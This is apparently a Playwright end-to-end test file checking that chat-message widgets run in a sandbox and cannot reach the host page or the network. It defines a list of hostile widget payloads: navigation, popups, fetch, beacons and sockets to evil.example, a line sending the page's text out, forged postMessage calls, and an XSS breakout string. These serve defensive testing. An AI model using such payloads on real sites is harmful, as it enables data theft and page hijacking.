"""Widgets in messages, in a real browser: they talk with the person; what they try reaches neither page nor world."""

import asyncio
from typing import Any

from playwright.async_api import Frame, Request, expect

from tests.corpus import rows
from tests.e2e.conftest import Channels, Visitor, Visitors

CORPUS: list[dict[str, str]] = [row.values[0] for row in rows("widgets_xss.jsonl") if row.values[0]]
EVIL = "evil.example"
TALLER = "parent.postMessage({widget:true,kind:'height',px:PX},'*')"
FORGERY = """for (const to of [parent, top]) for (const note of [
  {dbcv: 'send', text: 'pwned'}, {dbcv: 'hello'}, 1, [],
  {widget: true, kind: 'send', text: 'pwned'}, {widget: true, kind: 'open', href: 'javascript:alert(1)'}])
  to.postMessage(note, '*')"""
# Of the same kind as the corpus: (name, HTML, CSS, JavaScript).
MORE: list[tuple[str, str, str, str]] = [
    ("top-nav", "", "", "top.location='http://evil.example/'"),
    ("top-replace", "", "", "parent.location.replace('http://evil.example/')"),
    ("popup", "", "", "window.open('http://evil.example/')"),
    ("own-nav", "", "", "location='http://evil.example/?'+document.body.innerText"),
    ("meta-refresh", "<meta http-equiv=refresh content='0;url=http://evil.example/'>", "", ""),
    (
        "nested-frame",
        "<iframe src='http://evil.example/'></iframe><object data='http://evil.example/'></object>",
        "",
        "",
    ),
    ("srcdoc", "<iframe srcdoc='<script>top.document.title=1</script>'></iframe>", "", ""),
    ("img-out", "<img src='http://evil.example/a.png'>", "b{background:url(http://evil.example/b.png)}", ""),
    (
        "css-import",
        "",
        "@import 'http://evil.example/c.css'; @font-face{font-family:x;src:url(http://evil.example/)}",
        "",
    ),
    ("link-out", "<link rel=stylesheet href='http://evil.example/d.css'>", "", ""),
    ("prefetch", "<link rel=prefetch href='http://evil.example/'>", "", ""),
    ("fetches", "", "", "fetch('http://evil.example/'); navigator.sendBeacon('http://evil.example/','x');"),
    ("socket", "", "", "new WebSocket('ws://evil.example/'); new EventSource('http://evil.example/')"),
    ("worker", "", "", "new Worker(URL.createObjectURL(new Blob(['fetch(\"http://evil.example/\")'])))"),
    ("handler", "<b onclick='parent.postMessage(1)'>x</b><img src=x onerror='document.title=1'>", "", ""),
    ("markup-script", "<script>parent.postMessage({widget:true,kind:'send',text:'pwned'},'*')</script>", "", ""),
    ("dialogs", "", "", "try{alert(1)}catch{}; try{confirm(1)}catch{}; try{prompt(1)}catch{}; print()"),
    ("ungestured", "", "", "setInterval(()=>dbcv.send('pwned'),30)"),
    ("ungestured-click", "<a id=a href='http://evil.example/'>x</a>", "", "setInterval(()=>a.click(),30)"),
    ("forgery", "", "", FORGERY),
    ("flood", "", "", "setInterval(()=>{for(let i=0;i<200;i++)" + TALLER.replace("PX", "i%90") + "},20)"),
    ("tall", "<div style='height:9999999px'>x</div>", "body{height:9999999px}", TALLER.replace("PX", "1e9")),
    ("storage", "", "", "try{localStorage.a=1}catch{}; try{document.cookie='a=1'}catch{}"),
    ("history", "", "", "history.back(); history.go(-1); location.hash='x'; history.pushState(1,'')"),
    ("download", "<a id=d download=x.exe href='data:text/plain,x'>x</a>", "", "d.click()"),
]


def _step(name: str, widget_id: str | None, names: list[str]) -> dict[str, Any]:
    connections: list[dict[str, Any]] = [
        {
            "next_step_id": f"say-{other}",
            "rules": {"condition": "AND", "rules": [{"field": "message.text", "operator": "equal", "value": other}]},
        }
        for other in names
    ]
    message = {"text": f"shown {name}", "widget_id": widget_id} if widget_id else {"text": "ready"}
    groups = [{"connections": [*connections, {"next_step_id": "echo"}]}]
    return {"id": f"say-{name}", "name": name, "message": message, "connection_groups": groups}


def _document(widgets: dict[str, dict[str, str]]) -> dict[str, Any]:
    """A bot that shows the widget whose name it is told, and says "heard X" to everything else."""
    names = list(widgets)
    echo = _step("echo", None, names) | {"id": "echo", "message": {"text": "heard {$message.text$}"}}
    steps = [_step("start", None, names), echo, *(_step(name, name, names) for name in names)]
    made = [{"id": name, "name": name, **fields} for name, fields in widgets.items()]
    return {
        "format": "dbcv.bot", "version": 1, "name": "Widgets", "first_step_id": "say-start", "steps": steps,
        "widgets": made,
    }  # fmt: skip


async def _talk(visitors: Visitors, channels: Channels, widgets: dict[str, dict[str, str]], **options: Any) -> Visitor:
    visitor = await visitors(channels.make(default_bot_id=channels.bot(_document(widgets))), **options)
    await expect(visitor.said("ready")).to_be_visible()
    return visitor


async def _show(visitor: Visitor, name: str) -> Frame:
    """The frame of the widget, drawn."""
    await visitor.say(name)
    bubble = visitor.said(f"shown {name}").last
    await expect(bubble.locator("iframe")).to_have_attribute("data-drawn", "true")
    element = await bubble.locator("iframe").element_handle()
    frame = await element.content_frame() if element else None
    assert frame
    return frame


async def test_a_widget_talks_with_the_person(visitors: Visitors, channels: Channels) -> None:
    card = {
        "body": "<p id=p>For {$message.text$}</p><button id=b>Take it</button><a href='https://example.com/a'>more</a>",
        "css": "p{color:rgb(1,2,3)}",
        "js": "b.onclick = () => dbcv.send('taken'); p.dataset.v = '{$message.text$}';",
    }
    visitor = await _talk(visitors, channels, {"card": card})
    frame = await _show(visitor, "card")
    assert await frame.locator("p").evaluate("e => e.textContent + e.dataset.v + getComputedStyle(e).color") == (
        "For cardcardrgb(1, 2, 3)"
    )
    assert await frame.evaluate("getComputedStyle(document.documentElement).getPropertyValue('--dbcv-accent')") != ""
    await asyncio.sleep(0.8)  # who has just typed does not click within the same moment
    await frame.locator("button").click()
    await expect(visitor.said("heard taken")).to_be_visible()
    # The page's markup is the chat's own: what the widget says stands there as text.
    await expect(visitor.said("taken").first).to_be_visible()
    await asyncio.sleep(0.8)  # not sooner than a person would
    async with visitor.page.expect_popup() as popup:
        await frame.locator("a").click()
    assert (await popup.value).url in ("https://example.com/a", "about:blank", "chrome-error://chromewebdata/")
    await (await popup.value).close()


async def test_values_of_the_person_are_data_in_a_widget(visitors: Visitors, channels: Channels) -> None:
    """Whatever a person writes stands in markup, styles and scripts as data, however it is made up."""
    hostile = "</script><img src=x onerror=document.title='ran'>'\"`;document.title='ran';//${document.title='ran'}\\"
    widget = {
        "body": "<p title=\"{$session.x$}\" data-a='{$session.x$}'>{$session.x$}</p>",
        "css": "p::before{content:'{$session.x$}'}",
        "js": "document.querySelector('p').dataset.js = '{$session.x$}' + \"{$session.x$}\" + `{$session.x$}`;",
    }
    document = _document({"data": widget})
    document["steps"][0]["connection_groups"] = [
        {
            "variables": [{"target": "session.x", "source": "message.text"}],
            "connections": [{"next_step_id": "say-data"}],
        }
    ]
    visitor = await visitors(channels.make(default_bot_id=channels.bot(document)))
    await expect(visitor.said("ready")).to_be_visible()
    await visitor.say(hostile)
    await expect(visitor.log.locator("iframe")).to_have_attribute("data-drawn", "true")
    frame = visitor.page.frames[1]
    assert await frame.evaluate("document.title") == ""
    assert await frame.evaluate("document.querySelectorAll('img').length") == 0
    shown = await frame.evaluate(
        "(({textContent, title, dataset}) => [textContent, title, dataset.a])(document.querySelector('p'))"
    )
    assert shown == [hostile] * 3
    assert await frame.evaluate("document.querySelector('p').dataset.js") == hostile * 3


async def test_nothing_a_widget_tries_reaches_the_page_or_the_world(visitors: Visitors, channels: Channels) -> None:
    widgets = {row["id"]: {"body": row["html"], "css": row["css"], "js": row["js"]} for row in CORPUS}
    widgets |= {name: {"body": body, "css": css, "js": js} for name, body, css, js in MORE}
    loop = {name for name in widgets if "infinite" in name}
    visitor = await _talk(visitors, channels, {name: each for name, each in widgets.items() if name not in loop})
    visitor.expected_complaints = ("",)  # the browser says what it refuses
    page, went_out, opened = visitor.page, [], []

    def note(request: Request) -> None:
        if EVIL in request.url and not request.failure:
            went_out.append(request)

    page.context.on("requestfinished", note)
    page.context.on("page", lambda other: opened.append(other.url))
    page.on("dialog", lambda dialog: opened.append(f"dialog {dialog.message}"))
    page.on("download", lambda download: opened.append(f"download {download.url}"))
    address, title = page.url, await page.title()
    for name in sorted(widgets.keys() - loop):
        await visitor.say(name)
        await expect(visitor.said(f"shown {name}").last).to_be_visible()
    await asyncio.sleep(1)
    assert (page.url, await page.title()) == (address, title)
    assert went_out == [] and opened == []
    assert await page.evaluate("JSON.stringify({...localStorage})") != "{}"
    assert "pwned" not in " ".join(await visitor.bubbles())
    heights = await visitor.log.locator("iframe").evaluate_all("all => all.map((one) => one.clientHeight)")
    assert heights and max(heights) <= 480
    # The chat still works: the person writes, the bot answers.
    await visitor.field.focus()
    await page.keyboard.type("still here", delay=30)
    await page.keyboard.press("Enter")
    await expect(visitor.said("heard still here")).to_be_visible()


async def test_a_widget_without_end_does_not_stop_the_chat(visitors: Visitors, channels: Channels) -> None:
    visitor = await _talk(visitors, channels, {"loop": {"body": "<p>Turning</p>", "css": "", "js": "while(true){}"}})
    visitor.expected_complaints = ("",)
    await visitor.say("loop")
    await expect(visitor.said("shown loop")).to_be_visible()
    await visitor.say("one more")
    await expect(visitor.said("heard one more")).to_be_visible(timeout=10_000)
    await expect(visitor.page.get_by_text("The widget stopped answering.")).to_be_visible(timeout=15_000)


async def test_a_widget_that_takes_the_focus_is_stopped(visitors: Visitors, channels: Channels) -> None:
    """A script that takes the focus each 20 ms has it no longer than the page needs to see that nobody went there."""
    thief = {"body": "<input id=i autofocus>", "css": "", "js": "setInterval(()=>{window.focus();i.focus()},20)"}
    visitor = await _talk(visitors, channels, {"focus": thief})
    visitor.expected_complaints = ("Blocked autofocusing",)
    await visitor.say("focus")
    bubble = visitor.said("shown focus")
    await expect(bubble).to_be_visible()
    stopped = bubble.get_by_text("The widget stopped answering.")
    for _ in range(60):
        if await stopped.is_visible():
            break
        # Not by the keyboard: a key pressed while the frame has the focus is the frame's, and is gone with it.
        await visitor.field.focus()
        await asyncio.sleep(0.5)
    await expect(stopped).to_be_visible()
    await visitor.say("still here")
    await expect(visitor.said("heard still here")).to_be_visible()
